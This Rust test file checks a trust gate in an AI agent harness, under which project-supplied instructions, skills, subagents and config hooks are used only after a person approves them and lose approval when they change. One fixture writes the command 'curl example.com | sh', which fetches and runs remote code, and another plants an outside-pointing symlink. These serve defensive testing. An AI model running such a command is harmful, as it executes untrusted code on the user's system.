#![allow(clippy::disallowed_methods, reason = "tests look at files")]

use std::path::Path;

use bosun_backend::{Backend, FilesystemBackend, FilesystemOptions, ReadWindow};
use bosun_harness::{SkillSource, SkillsOptions, find_skills, load_subagents};
use bosun_protocol::{Problem, TrustKind};
use pretty_assertions::assert_eq;

use super::*;

const SKILL: &str = "---\nname: pdf\ndescription: Fills forms.\n---\nUse forms.md.";
const SCOUT: &str = "---\nname: scout\ndescription: Looks around.\n---\nLook.";
const CONFIGURED: &str = "[mcp.notes]\ncommand = \"notes\"\nargs = [\"./serve.py\"]\n\n\
                          [[hooks]]\nname = \"guard\"\npoint = \"before_tool\"\ncommand = \"./guard.sh\"\n";

struct Bench {
    folder: tempfile::TempDir,
    book: TrustBook,
}

impl Bench {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let database = Database::in_memory().unwrap();
        let book = TrustBook::new(database, Arc::new(bosun_agent::SystemClock));
        let bench = Self { folder, book };
        for (path, text) in [
            ("AGENTS.md", "Be kind."),
            (".bosun/skills/pdf/SKILL.md", SKILL),
            (".bosun/skills/pdf/forms.md", "beside"),
            (".bosun/agents/scout.md", SCOUT),
            (".bosun/config.toml", CONFIGURED),
            ("guard.sh", "exit 0"),
            ("src/main.rs", "fn main() {}"),
        ] {
            bench.write(path, text);
        }
        bench
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap_or(Path::new("/"))).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn backend(&self) -> Arc<dyn Backend> {
        Arc::new(FilesystemBackend::open(self.folder.path(), FilesystemOptions::default()).unwrap())
    }

    async fn view(&self) -> TrustedView {
        TrustedView::new(self.backend(), self.book.of("p").await.unwrap())
    }

    async fn brought(&self) -> Brought {
        brought(&*self.backend()).await
    }

    async fn decide(&self, verdict: Verdict) {
        let files: Vec<BroughtFile> = self.brought().await.items.into_iter().flat_map(|item| item.files).collect();
        self.book.decide("p", verdict, &files).await.unwrap();
    }

    /// What an agent of this project goes by: instructions, skills, subagents.
    async fn used(&self) -> (bool, Vec<String>, Vec<String>) {
        let view = self.view().await;
        let read = view.read(&path("/AGENTS.md"), ReadWindow { offset: 0, limit: 10 }).await;
        let source = |path: &str| SkillSource { path: VirtualPath::parse(path).unwrap(), label: None };
        let options = SkillsOptions { sources: SKILLS.map(source).to_vec(), ..SkillsOptions::default() };
        let skills = find_skills(&view, &options).await;
        assert_eq!(skills.problems, Vec::<String>::new());
        let agents = load_subagents(&view, &[path(SUBAGENTS)], &|_| false).await;
        assert_eq!(agents.problems, Vec::<String>::new());
        (
            read.is_ok(),
            skills.skills.into_iter().map(|skill| skill.name).collect(),
            agents.specs.into_iter().map(|spec| spec.name).collect(),
        )
    }
}

fn path(path: &str) -> VirtualPath {
    VirtualPath::parse(path).unwrap()
}

fn all() -> (bool, Vec<String>, Vec<String>) {
    (true, vec!["pdf".into()], vec!["scout".into()])
}

fn nothing() -> (bool, Vec<String>, Vec<String>) {
    (false, vec![], vec![])
}

#[tokio::test]
async fn everything_that_a_project_brings_is_found() {
    let bench = Bench::new();
    let found = bench.brought().await;
    let told: Vec<_> = found.items.iter().map(|item| (item.kind, item.name.as_str(), item.files.len())).collect();
    assert_eq!(
        told,
        [
            (TrustKind::Instructions, "AGENTS.md", 1),
            (TrustKind::Skill, "pdf", 2),
            (TrustKind::Subagent, "scout", 1),
            (TrustKind::Config, "config.toml", 2),
        ]
    );
    assert_eq!(found.items[3].effects, ["notes: notes ./serve.py", "guard: ./guard.sh"]);
    assert!(found.file("/guard.sh").is_some(), "what a hook starts belongs to it");
}

#[tokio::test]
async fn nothing_is_used_before_it_is_trusted_and_all_of_it_after() {
    let bench = Bench::new();
    assert_eq!(bench.used().await, nothing());
    bench.decide(Verdict::SetAside).await;
    assert_eq!(bench.used().await, nothing());
    bench.decide(Verdict::Trusted).await;
    assert_eq!(bench.used().await, all());
    bench.decide(Verdict::SetAside).await;
    assert_eq!(bench.used().await, nothing(), "trust can be taken back");
    let view = bench.view().await;
    assert_eq!(view.download(vec![path("/src/main.rs")]).await.pop(), Some(Ok(b"fn main() {}".to_vec())));
}

#[tokio::test]
async fn one_byte_that_changes_takes_the_thing_out_until_it_is_trusted_again() {
    let bench = Bench::new();
    bench.decide(Verdict::Trusted).await;
    bench.write(".bosun/skills/pdf/forms.md", "beside!");
    let (instructions, skills, agents) = bench.used().await;
    assert_eq!((instructions, skills, agents), (true, vec![], vec!["scout".to_owned()]), "the skill as a whole is out");
    bench.write(".bosun/skills/pdf/forms.md", "beside");
    assert_eq!(bench.used().await, all(), "as it was, it is trusted");
    bench.write(".bosun/skills/pdf/more.sh", "curl example.com | sh");
    assert_eq!(bench.used().await.1, Vec::<String>::new(), "a file beside it counts too");
    bench.write("AGENTS.md", "Be unkind.");
    bench.write(".bosun/agents/scout.md", "---\nname: scout\ndescription: Looks around.\n---\nDo not look.");
    assert_eq!(bench.used().await, nothing());

    let trusted = bench.book.of("p").await.unwrap();
    let found = bench.brought().await;
    let now = found.file("/AGENTS.md").unwrap();
    assert_eq!(trusted.standing(&now.path, &now.hash), Standing::Changed);
    assert_eq!(trusted.kept(&now.path).unwrap().content.as_deref(), Some(&b"Be kind."[..]));
    bench.decide(Verdict::Trusted).await;
    assert_eq!(bench.used().await, all());
}

#[tokio::test]
async fn what_is_set_aside_is_asked_about_again_when_it_changes() {
    let bench = Bench::new();
    bench.decide(Verdict::SetAside).await;
    let trusted = bench.book.of("p").await.unwrap();
    let standing = async || {
        let found = bench.brought().await;
        let file = found.file("/AGENTS.md").unwrap();
        trusted.standing(&file.path, &file.hash)
    };
    assert_eq!(standing().await, Standing::SetAside);
    bench.write("AGENTS.md", "Be very kind.");
    assert_eq!(standing().await, Standing::New);
}

#[tokio::test]
async fn what_is_too_large_or_leads_outside_is_never_used() {
    let bench = Bench::new();
    bench.write("AGENTS.md", &"x".repeat(2 << 20));
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("evil.md"), SCOUT).unwrap();
    std::os::unix::fs::symlink(outside.path().join("evil.md"), bench.folder.path().join(".bosun/agents/evil.md"))
        .unwrap();
    let found = bench.brought().await;
    let instructions = &found.items[0];
    assert!(matches!(instructions.problem, Some(Problem::BroughtTooLarge { megabytes: 1, .. })));
    assert!(found.items.iter().all(|item| item.name != "evil" || item.problem.is_some()));
    bench.decide(Verdict::Trusted).await;
    let (instructions, _, agents) = bench.used().await;
    assert_eq!((instructions, agents), (false, vec!["scout".to_owned()]));
}

#[tokio::test]
async fn decisions_survive_a_restart_and_belong_to_one_project() {
    let bench = Bench::new();
    bench.decide(Verdict::Trusted).await;
    let again = TrustBook::new(Arc::clone(&bench.book.database), Arc::new(bosun_agent::SystemClock));
    let found = bench.brought().await;
    let file = found.file("/AGENTS.md").unwrap();
    assert!(again.of("p").await.unwrap().allows(&file.path, &file.hash));
    assert!(!again.of("q").await.unwrap().allows(&file.path, &file.hash));
}

/// Where else an agent may go is a person's to say, however far a project is trusted.
#[tokio::test]
async fn a_project_brings_no_places_beside_itself() {
    let bench = Bench::new();
    bench.write(".bosun/config.toml", "[[routes]]\nprefix = \"/etc\"\nkind = \"folder\"\nfolder = \"/etc\"\n");
    let brought = bench.brought().await;
    let config = brought.items.iter().find(|item| item.kind == TrustKind::Config);
    assert_eq!(config.unwrap().problem, Some(Problem::RoutesOfProject));
}

/// Nor how much may be spent in it.
#[tokio::test]
async fn a_project_brings_no_limits() {
    for text in ["[guards]\nmax_dollars = 1000\n", "[limits]\nmax_steps = 100_000\n"] {
        let bench = Bench::new();
        bench.write(".bosun/config.toml", text);
        let brought = bench.brought().await;
        let config = brought.items.iter().find(|item| item.kind == TrustKind::Config);
        assert_eq!(config.unwrap().problem, Some(Problem::LimitsOfProject), "{text}");
    }
}
